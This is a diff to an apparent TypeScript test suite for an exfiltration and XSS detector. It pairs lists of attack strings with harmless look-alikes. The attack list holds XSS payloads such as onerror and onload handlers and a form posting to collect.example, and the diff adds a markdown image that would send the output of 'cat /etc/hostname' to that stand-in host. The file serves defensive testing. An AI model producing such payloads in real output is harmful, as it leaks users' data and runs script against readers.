@@ -49,6 +49,7 @@ const ATTACKS: readonly string[] = [
   '<SCRIPT SRC=//collect.example/x.js>',
   '<iframe srcdoc="x"></iframe>',
   '<img src=x onerror=alert(1)>',
+  '![x](https://collect.example/$(cat /etc/hostname))',
   '"onfocus="alert(document.domain)" autofocus="',
   '<svg/onload=alert(1)>',
   '<form action="https://collect.example/login">',
@@ -73,6 +74,7 @@ const HARMLESS: readonly string[] = [
   'Search with https://www.example.com/search?q=how+do+i+boil+an+egg for more.',
   'Call `GET https://api.example.com/users/{id}/orders?limit={limit}`.',
   'The file is at https://bucket.example/r.pdf?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+  '![x](https://latex.codecogs.com/svg.latex?x%3D%5Cfrac%7B-b%7D%7B2a%7D)',
   'Load it with a `<script>` tag, or call javascript:void(0) at `//javascript:80/x`.',
   'Support ends soon, see [https://docs.example/support/legacy][legacy] and http://192.0.2.7/index.html.',
   'JavaScript: the good parts. A javascript: URL runs code.',
@@ -143,5 +145,5 @@ test('an image that carries something to a host no input mentioned is found; a r
 keepsTheLaws(
   'exfiltration',
   [exfiltration],
-  [...ATTACKS, ...HARMLESS, '```html\n', '```\n', 'http', '](', '<img '],
+  [...ATTACKS, ...HARMLESS, '```html\n', '```\n', 'http', '](', '<img ', "<b ondrag='"],
 );
